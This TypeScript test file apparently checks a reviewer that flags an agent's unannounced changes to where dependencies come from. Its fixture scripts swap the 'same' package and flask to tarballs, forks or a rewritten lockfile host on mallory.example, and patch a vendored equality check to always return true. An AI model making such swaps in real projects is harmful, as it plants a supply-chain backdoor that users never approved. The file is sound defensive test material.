import { describe } from "vitest";
import { planOf, type Scene } from "../a-run.ts";
import { listed } from "../honest/honest-step.ts";
import { asks } from "./asked.ts";
import { changed, HONEST_IN_NODE, HONEST_IN_PYTHON, inNode, inPython } from "./numbers.ts";

const lockOf = (resolved: string): string =>
  `${JSON.stringify({ lockfileVersion: 3, packages: { "node_modules/same": { version: "1.0.0", resolved } } })}\n`;
const SERVED = "https://registry.example.com/same/-/same-1.0.0.tgz";

/** It may change its manifest, and with it the lockfile. */
const scene = (task: string, extra = listed({ change: ["src/double.js", "package.json"] })): Scene => ({
  ...changed(inNode, {
    "package.json": `{ "type": "module", "scripts": { "test": "node --test" }, "dependencies": { "same": "^1.0.0" } }\n`,
    "package-lock.json": lockOf(SERVED),
    "vendor/equal/index.js": "export const equal = (a, b) => a === b;\n",
  }),
  plan: planOf({ title: "Double", task, contract: "npm test", extra }),
});

/** Another source for `same`, with a lockfile that fits. */
const from = (spec: string, resolved: string): string =>
  `${HONEST_IN_NODE}; sed -i 's#"same": "[^"]*"#"same": "${spec}"#' package.json; echo '${lockOf(resolved).trim()}' > package-lock.json`;

const DOUBLE = "Make `double` double its number; raise the version of the package.";
const TARBALL = "https://mallory.example/same-1.0.1.tgz";
const FORK = "git+https://mallory.example/acme/same-fork.git";

describe("a dependency that comes from elsewhere, and nothing names it", () => {
  asks({
    "from a tarball": { scene: scene(DOUBLE), script: from(TARBALL, TARBALL), asks: `same comes from ${TARBALL}` },
    "from a fork": { scene: scene(DOUBLE), script: from(FORK, `${FORK}#abc`), asks: `same comes from ${FORK}` },
    "from a folder": {
      scene: scene(DOUBLE),
      script: `mkdir src/same; echo 'export {}' > src/same/index.js; ${from("file:src/same", "file:src/same")}`,
      asks: "same comes from file:src/same instead of the registry (package.json)",
    },
    "from another host, by the lockfile alone": {
      scene: scene(DOUBLE),
      script: from("^1.0.0", SERVED.replace("registry.example.com", "mallory.example")),
      asks: "same comes from the registry at mallory.example instead of the registry at registry.example.com",
    },
    "from a patched copy, without a file list": {
      scene: scene(DOUBLE, ""),
      script: `${HONEST_IN_NODE}; echo 'export const equal = () => true;' > vendor/equal/index.js`,
      asks: "the copy of a dependency in vendor/equal/index.js was changed",
    },
    "in Python, by a direct URL": {
      scene: {
        ...changed(inPython, { "requirements.txt": "flask==2.0\n" }),
        plan: planOf({
          task: DOUBLE,
          contract: "python3 -m pytest",
          extra: listed({ change: ["numbers_app/double.py", "requirements.txt"] }),
        }),
      },
      script: `${HONEST_IN_PYTHON}; echo 'flask @ git+https://mallory.example/flask.git' > requirements.txt`,
      asks: "flask comes from git+https://mallory.example/flask.git instead of the registry (requirements.txt)",
    },
  });
});

describe("nobody is asked", () => {
  asks({
    "about a fork that the task names": {
      scene: scene("Make `double` double its number; take same from our fork."),
      script: from(FORK, `${FORK}#abc`),
      asks: null,
    },
    "about another version and a new package": {
      scene: scene(DOUBLE),
      script: `${from("^2.0.0", SERVED.replaceAll("1.0.0", "2.0.0"))}; sed -i 's#"same":#"more": "1.0.0", "same":#' package.json`,
      asks: null,
    },
    "about a workspace": {
      scene: scene(DOUBLE),
      script: `${HONEST_IN_NODE}; mkdir -p packages/own; echo '{ "name": "own" }' > packages/own/package.json
        sed -i 's#"same":#"own": "file:packages/own", "same":#' package.json`,
      asks: null,
    },
    "about a copy that the task names": {
      scene: scene("Make `double` double its number, and let the vendored equal compare loosely.", ""),
      script: `${HONEST_IN_NODE}; echo 'export const equal = (a, b) => a == b;' > vendor/equal/index.js`,
      asks: null,
    },
  });
});
